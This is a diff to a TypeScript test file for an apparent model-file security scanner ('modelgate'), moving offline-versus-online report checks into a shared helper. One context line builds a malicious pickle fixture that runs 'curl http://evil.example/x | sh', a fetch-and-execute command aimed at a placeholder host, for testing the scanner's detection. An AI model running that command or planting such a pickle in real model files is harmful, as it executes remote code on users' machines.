@@ -8,6 +8,7 @@ import { runCliAsync } from '../helpers/cli.js';
 import { gitBlobId } from '../helpers/fixture-hub.js';
 import { HubProcess } from '../helpers/hub-process.js';
 import { osSystemPickle } from '../helpers/pickles.js';
+import { expectSameReport } from '../helpers/same-report.js';
 
 let hub: HubProcess | undefined;
 let endpoint = '';
@@ -22,16 +23,6 @@ function run(args: string[], env: Record<string, string> = {}): Promise<{ status
 const config = Buffer.from('{"model_type": "llama"}');
 const pickle = osSystemPickle('curl http://evil.example/x | sh');
 const weights = buildSafetensors({ tensors: [{ name: 'w', dtype: 'F32', shape: [16, 16] }] });
-
-/** What a report says about its files, without timings. */
-const summary = (r: ScanResult) =>
-  r.files.map((f) => ({
-    path: f.path,
-    format: f.format,
-    sha256: f.sha256,
-    verdict: f.verdict,
-    findings: f.findings.map((x) => ({ ruleId: x.ruleId, severity: x.severity, message: x.message })),
-  }));
 
 beforeAll(async () => {
   hub = await HubProcess.start();
@@ -62,11 +53,7 @@ describe('HF_HUB_OFFLINE=1 modelgate scan hf: after an online scan (fixture hub 
     expect(r.stderr).not.toMatch(/OFFLINE|not in the cache/);
     expect(r.status).toBe(1);
     const offline = JSON.parse(r.stdout) as ScanResult;
-    expect(summary(offline)).toEqual(summary(online));
-    const totals = (r: ScanResult) => ({ ...r.summary, durationMs: 0, findings: r.findings.map((f) => [f.ruleId, f.severity, f.message]) });
-    expect(totals(offline)).toEqual(totals(online));
-    expect(offline.source).toEqual(online.source);
-    expect(offline.files.every((f) => f.verdict !== 'error')).toBe(true);
+    expectSameReport(offline, online);
   });
 
   it('a cached small file changed after caching no longer matches its blob id: reported, not clean', async () => {
